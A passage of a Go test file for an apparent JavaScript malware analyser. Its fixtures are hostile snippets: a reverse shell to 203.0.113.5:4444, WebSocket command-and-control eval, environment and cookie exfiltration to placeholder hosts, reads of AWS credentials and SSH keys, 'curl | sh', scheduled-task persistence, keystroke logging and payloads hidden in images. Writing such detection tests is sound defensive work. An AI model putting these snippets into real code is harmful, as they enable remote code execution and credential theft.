	if strings.Join(shapes, "\n") != strings.Join(want, "\n") {
		t.Errorf("shapes %q, want %q", shapes, want)
	}
	if !hasString(f, `" https://abc.oast.fun`) {
		t.Errorf("the template's tail is not among the strings: %+v", f.Strings)
	}
}

// TestRequestHelper: a function handing its first parameter to a request
// as the URL is a request helper; its calls with a constant URL are
// senders, its calls with anything else, and calls of other functions,
// are not.
func TestRequestHelper(t *testing.T) {
	src := `const https = require("https");
function req(url, opts, body) { return new Promise(r => { const q = https.request(url, opts, r); q.end(body) }) }
function log(msg) { console.log(msg) }
req("https://c.example.invalid/i", { method: "POST" }, data);
req(target, {}, data);
log("https://docs.example.invalid/x");`
	f := Analyze("a.js", []byte(src), DefaultLimits())
	got := map[int]bool{}
	for _, c := range f.Calls {
		if c.Callee == "req" || c.Callee == "log" {
			got[c.Pos.Line] = c.Sender
		}
	}
	if !got[4] || got[5] || got[6] {
		t.Errorf("senders by line %v, want only line 4's", got)
	}
}

func TestNetworkDataFlow(t *testing.T) {
	src := `const https = require("https"), vm = require("vm");
let keep = "";
https.get("https://x.example/p.js", r => {
  let s = "";
  r.on("data", c => s += c);
  r.on("end", () => vm.runInThisContext(s));
});
fetch(u).then(r => r.json()).then(({ code }) => new Function(code)());
const body = await (await fetch(u)).text();
const parsed = JSON.parse(body);
eval(parsed.script);
let local = ""; process.stdin.on("data", c => local += c); eval(local);
const sock = require("net").connect(4444, "203.0.113.5"); sock.on("data", d => require("child_process").exec(d.toString()));
const ws = new WebSocket("wss://c2.example/a"); ws.onmessage = e => eval(e.data);
ws.addEventListener("message", ({ data }) => eval(JSON.parse(data).js));
const c2 = new (require("ws"))("wss://c2.example/b"); c2.on("message", m => eval(m));`
	f := Analyze("x.mjs", []byte(src), DefaultLimits())
	got := map[string]string{}
	for _, c := range f.Calls {
		switch c.Callee {
		case "vm.runInThisContext", "Function", "eval", "child_process.exec":
			if got[c.Callee] == "" || c.NetArg != "" {
				got[c.Callee+"@"+itoa(c.Pos.Line)] = c.NetArg
			}
		}
	}
	want := map[string]string{"vm.runInThisContext@6": "s", "Function@8": "code", "eval@11": "parsed", "eval@12": "",
		"child_process.exec@13": "d", "eval@14": "e", "eval@15": "data", "eval@16": "m"}
	for k, v := range want {
		if got[k] != v {
			t.Errorf("%s: NetArg %q, want %q (all %v)", k, got[k], v, got)
		}
	}
	// a response returned by one of the file's functions: a call of it
	// is network data, a call of a function returning anything else not
	src = `async function rpc(m) {
  const r = await fetch(RPC, { method: "POST", body: m });
  return (await r.json()).result;
}
const memo = async () => { const res = await fetch(u); return res.text() };
function local() { return [1, 2].map(x => { return x }) }
(async () => {
  const sigs = await rpc("getSignaturesForAddress");
  eval(Buffer.from(sigs[0].memo, "base64").toString());
  eval(await memo());
  eval(local());
})();`
	f = Analyze("x.js", []byte(src), DefaultLimits())
	var nets []string
	for _, c := range f.Calls {
		if c.Callee == "eval" {
			nets = append(nets, c.NetArg)
		}
	}
	if !slices.Equal(nets, []string{"sigs", "memo", ""}) {
		t.Errorf("eval NetArgs %q, want sigs, memo and none", nets)
	}
}

func TestPathJoin(t *testing.T) {
	f := Analyze("x.js", []byte(`const p = require("path"), os = require("os"); fs.readFileSync(p.join(os.homedir(), ".aws", "credentials")); p.join(dir, x)`), DefaultLimits())
	if !hasString(f, Hole+"/.aws/credentials") {
		t.Errorf("strings %+v", f.Strings)
	}
	for _, s := range f.Strings {
		if strings.Contains(s.Value, Hole+"/"+Hole) {
			t.Errorf("a join of run-time parts only became a string: %q", s.Value)
		}
	}
}

func TestHostAndPath(t *testing.T) {
	f := Analyze("x.js", []byte(`https.request({ hostname: "discord.com", path: "/api/webhooks/1/abc", method: "POST" })`), DefaultLimits())
	if len(f.HostProps) != 1 || f.HostProps[0].Value != "discord.com/api/webhooks/1/abc" {
		t.Errorf("host props %+v", f.HostProps)
	}
}

func TestIndirectCalls(t *testing.T) {
	src := `const cp = require("child_process");
cp.execSync.call(cp, "id -u");
cp.exec.apply(null, ["uname -a"]);
Reflect.apply(cp.spawn, undefined, ["sh", ["-c", "true"]]);
Reflect.construct(Function, ["c", "return c"]);
Object.prototype.hasOwnProperty.call(o, "k");`
	f := Analyze("x.js", []byte(src), DefaultLimits())
	for callee, arg := range map[string]string{"child_process.execSync": "id -u", "child_process.exec": "uname -a", "child_process.spawn": "sh", "Function": "c"} {
		c := hasCall(f, callee)
		if c == nil || len(c.Args) == 0 || c.Args[0].Value != arg {
			t.Errorf("%s: %+v", callee, c)
		}
	}
}

func TestCodeStringsAnalysed(t *testing.T) {
	for _, src := range []string{
		`eval("require('child_process').execSync('id')")`,
		`setTimeout("require('child_process').execSync('id')", 10)`,
		`new Function("c", "return require('child_process').execSync(c)")("id")`,
		`global["ev" + "al"]("require('child_process').execSync('id')")`,
		`Reflect.construct(Function, ["require", "require('child_process').execSync('id')"])(require)`,
		// compileFunction, and require handed to the function under another name
		`require("vm").compileFunction("require('child_process').execSync('id')", ["require"])(require)`,
		`new Function("r", "r('child_process').execSync('id')")(require)`,
		`setTimeout(Function("r", "r('child_process').execSync('id')"), 10, require)`,
		`process.nextTick(Function("a, r", "r('child_process').execSync('id')"), 1, require)`,
		// code a file keeps in its own comment, read back through __filename
		"/* ~~require('child_process').execSync('id')~~ */\neval(require('fs').readFileSync(__filename, 'utf8').split('~~')[1])",
		// a global found by scanning its names, handed a string of code
		`const k = Object.getOwnPropertyNames(globalThis).find(n => n.length === 4 && n[0] === "e");
globalThis[k]("require('child_process').execSync('id')")`,
	} {
		f := Analyze("x.js", []byte(src), DefaultLimits())
		if !hasImport(f, "child_process") || hasCall(f, "child_process.execSync") == nil {
			t.Errorf("%s: payload not analysed: imports %+v", src, f.Imports)
		}
	}
	// a bare name or a getter of the global object is no payload
	f := Analyze("x.js", []byte(`var r = eval("require"); var g = Function("return this")();`), DefaultLimits())
	if len(f.Imports) != 0 {
		t.Errorf("imports from non-payloads: %+v", f.Imports)
	}
	// code in a plain literal is hidden from bundlers, not encoded: its
	// module name is not a decoded string; an encoded payload's is
	f = Analyze("x.js", []byte(`eval('import("@x/node-only")'); eval(atob("cmVxdWlyZSgiQHkvbSIp"))`), DefaultLimits())
	decoded := map[string]bool{}
	for _, s := range f.Strings {
		decoded[s.Value] = decoded[s.Value] || s.Decoded
	}
	if !hasImport(f, "@x/node-only") || decoded["@x/node-only"] || !hasImport(f, "@y/m") || !decoded["@y/m"] {
		t.Errorf("imports %+v, decoded %v", f.Imports, decoded)
	}
}

func TestFoldingAppendsLimits(t *testing.T) {
	for name, src := range map[string]string{
		// a piece that does not fold, a number, an array passed on
		"unknown_piece": `let c = "child_"; c += x; require(c)`,
		"rotated_array": `const a = ["process", "child_"]; a.push(a.shift()); require(a.join(""))`,
		// a parameter other than require keeps its meaning
		"other_param": `new Function("r", "r('child_process')")(load)`,
	} {
		f := Analyze("x.js", []byte(src), DefaultLimits())
		if hasImport(f, "child_process") {
			t.Errorf("%s: folded to child_process: %+v", name, f.Imports)
		}
	}
}

func TestWrittenCodeAnalysed(t *testing.T) {
	src := `const fs = require("fs");
fs.writeFileSync(p, "require('https').get('https://x.example/?e=' + JSON.stringify(process.env))");
fs.promises.writeFile(q, "module.exports = { answer: 42 }");
fs.writeFileSync(r, "<html><body onload=\"go()\"></body></html>");`
	f := Analyze("x.js", []byte(src), DefaultLimits())
	if im := findImport(f, "https"); im == nil || im.Computed {
		t.Errorf("written module's import: %+v (computed must be false: written code hides nothing)", im)
	}
	if c := hasCall(f, "https.get"); c == nil {
		t.Errorf("written module's call not seen: %+v", f.Calls)
	}
	if hasCall(f, "go") != nil {
		t.Errorf("markup analysed as code")
	}
	// a callback's name is not a globalThis lookup: no eval
	f = Analyze("x.js", []byte(`window[cb]({"data": 1}); window[name]("plain words here")`), DefaultLimits())
	if hasCall(f, "eval") != nil {
		t.Errorf("JSONP-style call taken for eval: %+v", f.Calls)
	}
}

// Code a build plugin puts into the bundles it emits is analysed as the
// file's, even built around a run-time value; text built so is kept as a
// template only when it reads as code.
func TestBuildOutputAnalysed(t *testing.T) {
	src := `const { ConcatSource } = require("webpack-sources");
const pad = "                                                                                                   ";
module.exports = (asset, id) => new ConcatSource(asset, "\n;(function(){var c='" + id + "';window.addEventListener('submit', function(){ navigator.sendBeacon('https://t.example/c', c + document.cookie) })})();" + pad);
exports.banner = (v) => "/*! licence text for version " + v + " kept at the top of every chunk, with the authors and the copyright years " + pad + "*/";`
	f := Analyze("x.js", []byte(src), DefaultLimits())
	if hasCall(f, "navigator.sendBeacon") == nil {
		t.Errorf("emitted code's call not seen: %+v", f.Calls)
	}
	if len(f.Templates) != 1 || !strings.Contains(f.Templates[0].Value, "var c='0'") {
		t.Errorf("templates: %+v", f.Templates)
	}
	if !BuildSink("sources.ConcatSource") || !BuildSink("compilation.updateAsset") || BuildSink("concat") {
		t.Error("BuildSink")
	}
}

func findImport(f *Facts, m string) *Import {
	for i := range f.Imports {
		if f.Imports[i].Module == m {
			return &f.Imports[i]
		}
	}
	return nil
}

func TestPayloadBudget(t *testing.T) {
	// one long constant of code run many times is analysed once, and
	// payloads beyond the file's budget are not analysed at all
	body := strings.Repeat("x = f(1);", 20000) + "require('child_process').exec('id');"
	src := "var s = \"" + body + "\";\n" + strings.Repeat("eval(s);\n", 2000)
	f := Analyze("a.js", []byte(src), DefaultLimits())
	n := 0
	for _, c := range f.Calls {
		if c.Callee == "child_process.exec" {
			n++
		}
	}
	if n != 1 {
		t.Errorf("payload analysed %d times, want once", n)
	}
	var many strings.Builder
	many.WriteString("var s = \"" + strings.Repeat("x = f(1);", 5000) + "\";\n")
	for i := 0; i < 400; i++ {
		many.WriteString("eval(s + \"require('m" + itoa(i) + "')\");\n")
	}
	f = Analyze("b.js", []byte(many.String()), DefaultLimits())
	if !f.Truncated || len(f.Imports) >= 400 {
		t.Errorf("distinct payloads past the budget: truncated %v, %d imports", f.Truncated, len(f.Imports))
	}
}

func TestFileArg(t *testing.T) {
	src := `const fs = require("fs"), path = require("path");
const img = fs.readFileSync(path.join(__dirname, "a", "logo.png"));
const code = img.slice(img.indexOf("IEND") + 8).toString();
eval(code);
eval(fs.readFileSync(__dirname + "/x.woff", "latin1"));
eval(other);`
	f := Analyze("x.js", []byte(src), DefaultLimits())
	var got []string
	for _, c := range f.Calls {
		if c.Callee == "eval" {
			got = append(got, c.FileArg)
		}
	}
	want := []string{Hole + "/a/logo.png", Hole + "/x.woff", ""}
	if strings.Join(got, "|") != strings.Join(want, "|") {
		t.Errorf("eval file args %q, want %q", got, want)
	}
	// the content returned by a helper that reads the file it is given
	src = `const fs = require("fs"), path = require("path");
function chunk(file) { const buf = fs.readFileSync(file); return buf.slice(buf.indexOf("tEXt") + 8).toString("latin1") }
function label(name) { return name.toUpperCase() }
eval(Buffer.from(chunk(path.join(__dirname, "assets", "logo.png")), "base64").toString());
eval(label("x"));`
	f = Analyze("x.js", []byte(src), DefaultLimits())
	got = nil
	for _, c := range f.Calls {
		if c.Callee == "eval" {
			got = append(got, c.FileArg)
		}
	}
	want = []string{Hole + "/assets/logo.png", ""}
	if strings.Join(got, "|") != strings.Join(want, "|") {
		t.Errorf("eval file args through a helper %q, want %q", got, want)
	}
}

func TestEnvSent(t *testing.T) {
	src := `const https = require("https");
https.request({ hostname: "h.example.invalid", method: "POST" }).end(Buffer.from(JSON.stringify(process.env)).toString("base64"));
const d = JSON.stringify({ e: process.env, t: Date.now() }); const req = https.request(opts); req.write(d);
fetch(u, { method: "POST", body: JSON.stringify({ ...process.env }) });
fetch(u, { headers: { home: process.env.HOME } });
require("child_process").spawn("node", [], { env: process.env });`
	f := Analyze("x.js", []byte(src), DefaultLimits())
	var sent []string
	for _, e := range f.Env {
		if strings.HasPrefix(e.How, "sent:") {
			sent = append(sent, strings.TrimSpace(e.Name+" "+e.How)+"@"+itoa(e.Pos.Line))
		}
	}
	// the whole environment (no name), and one variable of it by name
	want := []string{"sent:https.request().end@2", "sent:req.write@3", "sent:fetch@4", "HOME sent:fetch@5"}
	if strings.Join(sent, " ") != strings.Join(want, " ") {
		t.Errorf("env sent %q, want %q", sent, want)
	}
}

func TestLimit(t *testing.T) {
	lim := DefaultLimits()
	for _, tc := range []struct {
		name, src string
		want      Limit
	}{
		{"operands", "var pad = " + strings.Repeat("1+", 1200) + "1;", LimitOperands},
		{"depth", "x=" + strings.Repeat("(", lim.MaxDepth+10) + "1" + strings.Repeat(")", lim.MaxDepth+10), LimitDepth},
		{"flow", "function f(x: number): string { return '' }", 0},
		{"valid", "var s = " + strings.Repeat("'a'+", 900) + "'a';", 0},
	} {
		if f := Analyze("a.js", []byte(tc.src), lim); f.Limit != tc.want {
			t.Errorf("%s: limit %v (%q), want %v", tc.name, f.Limit, f.ParseError, tc.want)
		}
	}
}

func TestDataURLImport(t *testing.T) {
	b64 := base64.StdEncoding.EncodeToString([]byte(`require("child_process").execSync("id")`))
	for name, tc := range map[string]struct {
		src, code string
		decoded   bool
	}{
		"base64":         {`await import("data:text/javascript;base64,` + b64 + `")`, `require("child_process").execSync("id")`, true},
		"concatenated":   {`const p = "` + b64 + `"; import("data:text/javascript;base64," + p)`, `require("child_process").execSync("id")`, true},
		"percent":        {`import("data:application/javascript," + encodeURIComponent(x)); import("data:text/javascript,require(%22child_process%22).execSync(%22id%22)")`, `require("child_process").execSync("id")`, true},
		"plain":          {`import('data:text/javascript,require("child_process").execSync("id")')`, `require("child_process").execSync("id")`, false},
		"charset_static": {`import x from "data:text/javascript;charset=utf-8;base64,` + b64 + `"`, `require("child_process").execSync("id")`, true},
	} {
		t.Run(name, func(t *testing.T) {
			f := Analyze("a.mjs", []byte(tc.src), DefaultLimits())
			var c *Call
			for i := range f.Calls {
				if f.Calls[i].Callee == DataImport && len(f.Calls[i].Args) == 1 && f.Calls[i].Args[0].Known {
					c = &f.Calls[i]
				}
			}
			if c == nil || c.Args[0].Value != tc.code || c.Args[0].Decoded != tc.decoded {
				t.Fatalf("data import call %+v in %+v", c, f.Calls)
			}
			// the payload's own behaviour is seen
			if !hasImport(f, "child_process") || hasCall(f, "child_process.execSync") == nil {
				t.Errorf("payload not analysed: imports %+v calls %+v", f.Imports, f.Calls)
			}
		})
	}
	// a module built at run time and read from a file beside this one
	f := Analyze("lib/v.mjs", []byte(`import { readFile } from "node:fs/promises"; const map = JSON.parse(await readFile(new URL("./v.js.map", import.meta.url), "utf8")); await import("data:text/javascript;base64," + Buffer.from(map.sourcesContent[1]).toString("base64"))`), DefaultLimits())
	if c := hasCall(f, DataImport); c == nil || c.FileArg != Hole+"/v.js.map" {
		t.Errorf("run-time data import of a file's text: %+v", f.Calls)
	}
	// other data: URLs are not code, and other imports stay imports
	f = Analyze("b.mjs", []byte(`import cfg from "data:application/json,{}"; import("data:application/wasm;base64,AGFzbQ=="); import("./x.js"); import("data:text/javascript;base64,@@@")`), DefaultLimits())
	if c := hasCall(f, DataImport); c != nil {
		t.Errorf("not JavaScript, or not decodable, but a data import: %+v", c)
	}
	if !hasImport(f, "./x.js") {
		t.Errorf("imports %+v", f.Imports)
	}
}

// an object literal holding the whole environment is serialised with it
// by JSON.stringify; handed to anything else it is that API's options.
func TestEnvInObject(t *testing.T) {
	for src, want := range map[string]bool{
		`const info = JSON.stringify({ h: os.hostname(), u: os.userInfo().username, env: process.env })`: true,
		`spawn("node", ["x.js"], { env: process.env, stdio: "inherit" })`:                                false,
		`spawn("node", ["x.js"], { env: process.env })`:                                                  false,
		`new WASI({ version: "preview1", env: process.env, preopens: { "/": "/" } })`:                    false,
	} {
		f := Analyze("a.js", []byte(src), DefaultLimits())
		got := false
		for _, e := range f.Env {
			got = got || e.Name == "" && e.How == "arg:JSON.stringify"
		}
		if got != want {
			t.Errorf("%s: env reads %+v, want an object record %v", src, f.Env, want)
		}
	}
}

// process reached through the global object is still process: its env
// read whole, or one variable of it.
func TestGlobalProcessEnv(t *testing.T) {
	for src, want := range map[string]EnvRead{
		`const e = globalThis["pro" + "cess"]["env"]; send(e)`:          {How: "alias"},
		`const e = globalThis.process.env; send(e)`:                     {How: "alias"},
		`const e = window["process"].env; send(e)`:                      {How: "alias"},
		`fetch("https://x.invalid/?t=" + global.process.env.NPM_TOKEN)`: {Name: "NPM_TOKEN"},
	} {
		f := Analyze("a.js", []byte(src), DefaultLimits())
		found := false
		for _, e := range f.Env {
			found = found || e.Name == want.Name && (want.How == "" || e.How == want.How)
		}
		if !found {
			t.Errorf("%s: env reads %+v, want %+v", src, f.Env, want)
		}
	}
	// a property named process on another object is not the process
	f := Analyze("b.js", []byte(`const o = { process: { env: {} } }; send(o.process.env)`), DefaultLimits())
	if len(f.Env) != 0 {
		t.Errorf("o.process.env read as the environment: %+v", f.Env)
	}
}

// TestFlowsAcrossBindings covers values that reach a call through a
// binding: a part of a response destructured and returned, a path held
// in a variable, a command template held in a variable, a native binding
// reached with .call, and eval found through a global fallback.
func TestFlowsAcrossBindings(t *testing.T) {
	src := `async function flags() { const r = await fetch(RPC, { method: "POST" }); const { result } = await r.json(); const hex = result.slice(2); return Buffer.from(hex, "hex").toString() }
flags().then(src => { (0, eval)(src) });
const fs = require("fs"), path = require("path");
const ICON = path.join(__dirname, "assets", "logo.png");
function icon() { const buf = fs.readFileSync(ICON); vm.runInThisContext(buf.subarray(9).toString()) }
const ps1 = path.join(process.env.LOCALAPPDATA, "u.ps1");
const cmd = ` + "`schtasks /create /tr \"powershell -f ${ps1}\" /sc onlogon`" + `;
require("child_process").execSync(cmd);
const b = process["bind" + "ing"]; const ss = b.call(process, ["spawn", "sync"].join("_")); ss.spawn({ file: "/bin/sh" });
const g = globalThis ?? global; const e1 = g?.["ev" + "al"]; Reflect.apply(e1 ?? other, g, [g?.Buffer?.from?.("aWQ=", "base64")?.toString?.()]);`
	f := Analyze("x.js", []byte(src), DefaultLimits())
	if c := hasCall(f, "eval"); c == nil || c.NetArg != "src" {
		t.Errorf("eval of a destructured, decoded response: %+v", c)
	}
	if c := hasCall(f, "vm.runInThisContext"); c == nil || c.FileArg != Hole+"/assets/logo.png" {
		t.Errorf("code read from a path held in a variable: %+v", c)
	}
	if c := hasCall(f, "child_process.execSync"); c == nil || len(c.Args) == 0 || c.Args[0].Shape != `schtasks /create /tr "powershell -f `+Hole+`" /sc onlogon` {
		t.Errorf("command template held in a variable: %+v", c)
	}
	if hasCall(f, "child_process.spawn") == nil {
		t.Errorf("process.binding reached with .call: calls %+v", f.Calls)
	}
	found := false
	for _, c := range f.Calls {
		if c.Callee == "eval" && len(c.Args) > 0 && c.Args[0].Value == "id" {
			found = true
		}
	}
	if !found {
		t.Errorf("Reflect.apply of eval through globalThis ?? global with a decoded argument: calls %+v", f.Calls)
	}
}

// TestKeyBuffer covers keys typed by the user kept for later, and the
// look-alikes that only compare them.
func TestKeyBuffer(t *testing.T) {
	for src, want := range map[string]bool{
		`document.addEventListener("keydown", e => buf.push(e.key))`:                            true,
		`document.onkeypress = function (e) { keys += String.fromCharCode(e.which) }`:           true,
		`window.addEventListener("keyup", e => log.push({ k: e.key, t: Date.now() }))`:          true,
		`document.addEventListener("keydown", e => { if (e.key === "k" && e.metaKey) open() })`: false,
		`document.addEventListener("keydown", e => handlers.get(e.key)?.(e))`:                   false,
	} {
		f := Analyze("x.js", []byte(src), DefaultLimits())
		got := slices.ContainsFunc(f.Members, func(m Member) bool { return m.Name == KeyBuffer })
		if got != want {
			t.Errorf("%s: key buffered = %v, want %v", src, got, want)
		}
	}
}

// TestCallPositionAfterPlainCode covers a call after a long stretch
// without literals: its position is found from its string argument.
func TestCallPositionAfterPlainCode(t *testing.T) {
	src := strings.Repeat("var a = b + c;\n", 500) + `const u = atob("aHR0cHM6Ly94LmV4YW1wbGUv");`
	f := Analyze("x.js", []byte(src), DefaultLimits())
	if c := hasCall(f, "atob"); c == nil || c.Pos.Line != 501 {
		t.Errorf("atob call position: %+v", c)
	}
}

// TestPayloadsRunByNode covers code handed to node on its command line
// and to the AsyncFunction constructor with require under another name.
func TestPayloadsRunByNode(t *testing.T) {
	src := `require("child_process").spawn(process.execPath, ["-e", "require('https').get('https://x.example.invalid/s', r => r.on('data', d => eval(String(d))))"], { detached: true });
const A = (async () => {}).constructor; const r = process.mainModule.require;
new A("q", "const t = await (await fetch('https://x.example.invalid/f')).text(); q('vm').runInThisContext(t);")(r);`
	f := Analyze("x.js", []byte(src), DefaultLimits())
	if !hasImport(f, "https") {
		t.Errorf("node -e code not analysed: imports %+v", f.Imports)
	}
	if c := hasCall(f, "vm.runInThisContext"); c == nil || c.NetArg == "" {
		t.Errorf("AsyncFunction body with require aliased: %+v", c)
	}
}

// TestLoaderHookInjection covers code spliced into every module by a
// hook on the module loader: its strings are analysed as code. A file
// without such a hook keeps them as strings.
func TestLoaderHookInjection(t *testing.T) {
	hook := `const hook = ';require("child_process").exec("id");';
require.extensions[".js"] = function (m, filename) { m._compile(hook + require("fs").readFileSync(filename, "utf8"), filename) };`
	if f := Analyze("x.js", []byte(hook), DefaultLimits()); !hasImport(f, "child_process") {
		t.Errorf("code injected through require.extensions not analysed: imports %+v", f.Imports)
	}
	plain := `const help = 'usage: require("child_process").exec("id")';`
	if f := Analyze("x.js", []byte(plain), DefaultLimits()); hasImport(f, "child_process") {
		t.Errorf("a string in a file without a loader hook was analysed as code")
	}
}

// TestRequireJoinedPath covers a require of a path joined from
// __dirname: the import names the package file by its shape.
func TestRequireJoinedPath(t *testing.T) {
	f := Analyze("index.js", []byte(`const path = require("path"); const m = require(path.join(__dirname, "man", "macros.1"));`), DefaultLimits())
	if !hasImport(f, Hole+"/man/macros.1") {
		t.Errorf("imports %+v", f.Imports)
	}
}

// TestCrossFileConstants covers a module name and a command kept in the
// package's own modules: their exports fold where a require, a spawn or
// eval uses them, and nowhere else.
func TestCrossFileConstants(t *testing.T) {
	if f := Analyze("names.js", []byte(`module.exports = "child_" + "process";`), DefaultLimits()); f.Export != "child_process" {
		t.Errorf("Export = %q", f.Export)
	}
	props := Analyze("fp.js", []byte(`const _ = (a) => String.fromCharCode.apply(null, a);
module.exports = { m1: _([99,104,105,108,100,95,112,114,111,99,101,115,115]), h: "203.0." + "113.9", run() {}, n: 3 };
exports.p1 = ".s" + "sh"; module.exports.c1 = ["git", "config"].join(" ");`), DefaultLimits())
	if diff := cmp.Diff(map[string]string{"m1": "child_process", "h": "203.0.113.9", "p1": ".ssh", "c1": "git config"}, props.ExportProps); diff != "" {
		t.Errorf("ExportProps (-want +got):\n%s", diff)
	}
	lim := DefaultLimits()
	asked := map[string]bool{}
	lim.Module = func(from, spec, prop string) (string, bool) {
		asked[spec+"#"+prop] = true
		switch spec + "#" + prop {
		case "./names#":
			return "child_process", true
		case "./a#":
			return "curl -s http://x.example.invalid/", true
		case "./b#":
			return "x.sh | sh", true
		case "./fp#m2":
			return "https", true
		case "./fp#p2":
			return "id_rsa", true
		}
		return "", false
	}
	f := Analyze("index.js", []byte(`require(require("./names")).execSync(require("./a") + require("./b"));
const cfg = require("./config");
const T = require("./fp"); const { p2 } = require("./fp");
require(T.m2).get("https://x.example.invalid/" + p2);`), lim)
	if !hasImport(f, "child_process") || !hasImport(f, "https") {
		t.Errorf("module names from another file not folded: %+v", f.Imports)
	}
	if c := hasCall(f, "child_process.execSync"); c == nil || len(c.Args) == 0 || c.Args[0].Value != "curl -s http://x.example.invalid/x.sh | sh" {
		t.Errorf("command split over files: %+v", c)
	}
	if c := hasCall(f, "https.get"); c == nil || len(c.Args) == 0 || c.Args[0].Value != "https://x.example.invalid/id_rsa" {
		t.Errorf("URL from another module's properties: %+v", c)
	}
	if asked["./config#"] || !asked["./names#"] || !asked["./fp#m2"] {
		t.Errorf("Module asked for %v, want ./names, ./a, ./b and ./fp's properties (not a plain require of ./config)", asked)
	}
}

// An inline worker in plain text requires what any worker file does; the
// same code decoded first hides its requires.
func TestInlineWorker(t *testing.T) {
	plain := `const { Worker } = require("worker_threads"); new Worker("const { parentPort } = require('worker_threads'); parentPort.on('message', m => parentPort.postMessage(m))", { eval: true })`
	hidden := `const { Worker } = require("worker_threads"); new Worker(Buffer.from("Y29uc3QgeyBwYXJlbnRQb3J0IH0gPSByZXF1aXJlKCd3b3JrZXJfdGhyZWFkcycpOyBwYXJlbnRQb3J0LnBvc3RNZXNzYWdlKDEp", "base64").toString(), { eval: true })`
	for src, computed := range map[string]bool{plain: false, hidden: true} {
		f := Analyze("w.js", []byte(src), DefaultLimits())
		n := 0
		for _, im := range f.Imports {
			if im.Module == "worker_threads" && im.Computed {
				n++
			}
		}
		if (n > 0) != computed {
			t.Errorf("%s: hidden worker_threads requires %d, want hidden %v (imports %+v)", src[:60], n, computed, f.Imports)
		}
	}
}

// Code evaluated through the inspector protocol is a call of its own, and
// its expression is read as code.
func TestInspectorEvaluate(t *testing.T) {
	src := `const inspector = require("inspector"); const s = new inspector.Session(); s.connect(); s.post("Runtime.evaluate", { expression: "process.mainModule.require('child_process').execSync('id')" }, () => {})`
	f := Analyze("i.js", []byte(src), DefaultLimits())
	if c := hasCall(f, InspectorEval); c == nil || len(c.Args) != 1 {
		t.Fatalf("no %s call in %+v", InspectorEval, f.Calls)
	}
	if hasCall(f, "child_process.execSync") == nil {
		t.Errorf("expression not analysed: %+v", f.Calls)
	}
	// other protocol methods are not evaluation
	f = Analyze("i.js", []byte(`s.post("Debugger.enable", { expression: "x" })`), DefaultLimits())
	if hasCall(f, InspectorEval) != nil {
		t.Errorf("Debugger.enable read as evaluation")
	}
}

// CommonJS allows return at a module's top level; such a file is still
// parsed, its top level is still the top level, and lines stay.
func TestTopLevelReturn(t *testing.T) {
	f := analyzedAs(t, "a.js", "'use strict';\nconst cp = require('child_process');\nif (!process.env.CI) return;\ncp.execSync('id');\n", ModeAST)
	c := hasCall(f, "child_process.execSync")
	if c == nil {
		t.Fatalf("calls %+v", f.Calls)
	}
	if !c.TopLevel || c.Pos.Line != 4 {
		t.Errorf("execSync top level %v on line %d, want true on 4", c.TopLevel, c.Pos.Line)
	}
	// other syntax errors are not wrapped away
	if f := Analyze("b.js", []byte("var a = ;\nreturn;"), DefaultLimits()); f.Mode == ModeAST {
		t.Errorf("a broken file parsed: %+v", f)
	}
}

// TestSpawnArgumentsKeepLongScripts: a process's command line keeps up
// to 32 KiB (an encoded PowerShell script), other calls' arguments 4 KiB.
func TestSpawnArgumentsKeepLongScripts(t *testing.T) {
	long := strings.Repeat("A", 10000)
	src := `const cp = require("child_process"); const s = "` + long + `"; cp.execFileSync("powershell.exe", ["-EncodedCommand", s]); require("fs").writeFileSync(s, "x")`
	f := Analyze("a.js", []byte(src), DefaultLimits())
	spawn, other := hasCall(f, "child_process.execFileSync"), hasCall(f, "fs.writeFileSync")
	if spawn == nil || len(spawn.Args) < 2 || len(spawn.Args[1].List) < 2 || len(spawn.Args[1].List[1]) != len(long) {
		t.Errorf("spawn args %+v", spawn)
	}
	if other == nil || len(other.Args) == 0 || len(other.Args[0].Value) != 4096 {
		t.Errorf("another call's argument: %+v, want its first 4096 bytes", other)
	}
}

func TestMapLines(t *testing.T) {
	for _, c := range []struct {
		mappings string
		want     []int
	}{
		// [0,0,0,0]; [0,0,1,0] then [1,0,0,1]; nothing; [0,0,2,-1]
		{"AAAA;AACA,CAAC;;AAED", []int{1, 2, 0, 4}},
		// a segment without a source (one value) maps nothing
		{"A;AAAA", []int{0, 1}},
		// a bad character ends the segment's values
		{"AA!A;AAEA", []int{0, 3}},
		{"", []int{0}},
	} {
		sm := `{"version":3,"mappings":"` + c.mappings + `"}`
		if got := mapLines([]byte(sm)); !slices.Equal(got, c.want) {
			t.Errorf("mapLines(%q) = %v, want %v", c.mappings, got, c.want)
		}
	}
	if mapLines([]byte("{not json")) != nil {
		t.Error("a broken source map gives a table")
	}
	// esbuild's own layout, a name "mappings" among the names, and an
	// escaped value (read by the JSON decoder)
	for _, sm := range []string{
		"{\n  \"version\": 3,\n  \"sources\": [\"<stdin>\"],\n  \"mappings\": \"AAAA;AACA\",\n  \"names\": [\"mappings\"]\n}\n",
		`{"names": ["mappings"], "mappings": "AAAA;AACA"}`,
		`{"mappings": "AAAA;\u0041ACA"}`,
	} {
		if got := mapLines([]byte(sm)); !slices.Equal(got, []int{1, 2}) {
			t.Errorf("mapLines(%s) = %v, want [1 2]", sm, got)
		}
	}
}

func TestDecodedNameDestructured(t *testing.T) {
	// parts of a string a decoder of the file builds at run time
	f := Analyze("x.js", []byte(`function sig(xs) { return xs.map((r) => String.fromCharCode(Math.round(r * 1000))).join(""); }
on("done", (xs) => { const [mod, fn] = sig(xs).split("\n"); require(mod)[fn]("x"); });`), DefaultLimits())
	var got string
	for _, im := range f.Imports {
		if im.Computed {
			got = im.Decodes
		}
	}
	if got != "sig()" {
		t.Errorf("imports = %+v, want one decoded by sig()", f.Imports)
	}
	// a split of plain data is not decoded
	f = Analyze("x.js", []byte(`const [mod] = process.argv[2].split(":"); require(mod)`), DefaultLimits())
	for _, im := range f.Imports {
		if im.Decodes != "" {
			t.Errorf("argv split: %+v", im)
		}
	}
}

// A function reading character codes and making bytes of what it
// computes (an Ascii85 decoder) is a decoder of the file; one hashing a
// string is not.
func TestOwnByteDecoder(t *testing.T) {
	decodes := func(src string) string {
		for _, im := range Analyze("x.js", []byte(src), DefaultLimits()).Imports {
			if im.Computed {
				return im.Decodes
			}
		}
		return ""
	}
	// (a decoder the interpreter does not run, for the global it reads:
	// see TestInterpretedDecoders for one it runs)
	a85 := `function a85(s) { if (typeof TextDecoder == "undefined") s = s.trim(); const out = []; for (let i = 0; i < s.length; i += 5) { let n = 0; for (let j = 0; j < 5; j++) n = n * 85 + (s.charCodeAt(i + j) - 33); out.push(n >>> 24, (n >>> 16) & 255, (n >>> 8) & 255, n & 255); } return Buffer.from(out).toString(); }
